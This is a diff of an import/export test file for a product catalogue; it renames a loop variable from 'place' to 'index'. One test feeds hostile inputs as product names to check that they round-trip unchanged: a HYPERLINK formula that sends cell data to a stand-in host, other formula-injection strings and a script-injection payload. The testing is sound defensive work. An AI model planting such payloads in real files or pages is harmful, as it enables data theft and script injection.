@@ -71,7 +71,7 @@ test('[IMP-13][C1-10] empty cells keep what is there, -clear- clears, and what m
 
 test('[IMP-14][C1-09] own export of 12 variants, imported twice, changes nothing; 3 lines leave the other 9', async () => {
   const sku = newSku();
-  const colours = Array.from({ length: 12 }, (_, place) => `Shade ${place}`.replace(' ', '-'));
+  const colours = Array.from({ length: 12 }, (_, index) => `Shade ${index}`.replace(' ', '-'));
   const product = await createCompleteProduct(catalogue, { sku, colours });
   const file = await exported(sku);
   for (const _ of [1, 2]) expect(countsOf((await files.check(file)).of)).toEqual([0, 0, 12, 0]);
@@ -86,9 +86,9 @@ test('[IMP-14][C1-09] own export of 12 variants, imported twice, changes nothing
 test('[IMP-15][C1-08][C1-12][C1-15] markup, formulas and amounts come back from the own export as they were', async () => {
   const names = ['=HYPERLINK("http://x.example/?"&A1)', '@SUM(1)', '-2+3', 'Buds</script><img src=x onerror=alert(1)>'];
   const sku = newSku();
-  for (const [place, name] of names.entries())
+  for (const [index, name] of names.entries())
     await createCompleteProduct(catalogue, {
-      sku: `${sku}-${place}`,
+      sku: `${sku}-${index}`,
       name,
       changes: { basePrice: 123_456.5, salePrice: 33.61 },
     });
